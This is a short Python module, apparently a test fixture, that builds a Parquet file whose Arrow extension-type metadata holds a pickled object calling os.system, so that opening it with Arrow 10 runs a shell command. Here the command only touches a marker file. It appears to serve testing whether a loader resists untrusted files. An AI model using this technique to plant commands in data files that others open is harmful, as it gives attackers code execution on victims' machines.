"""Files that a stranger might send."""

import os
import pickle
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq


class _Payload:
    """What runs a command when it is unpickled."""

    def __init__(self, command: str) -> None:
        self._command = command

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (self._command,)


def parquet_that_writes(path: Path, victim: Path) -> Path:
    """Writes a Parquet table with the columns x, n, t and y, which makes Arrow 10 write `victim` when it is opened."""
    payload = pickle.dumps(_Payload(f"touch {victim}"))
    code = {b"ARROW:extension:name": b"arrow.py_extension_type", b"ARROW:extension:metadata": payload}
    numbers, texts = pa.array(range(40), pa.int64()), pa.array(["a", "b"] * 20)
    fields = [pa.field("x", pa.int64(), metadata=code)]
    fields += [pa.field(name, kind) for name, kind in {"n": pa.int64(), "t": pa.string(), "y": pa.string()}.items()]
    pq.write_table(pa.table([numbers, numbers, texts, texts], schema=pa.schema(fields)), path)
    victim.unlink(missing_ok=True)  # Arrow reads its own schema when it writes
    return path
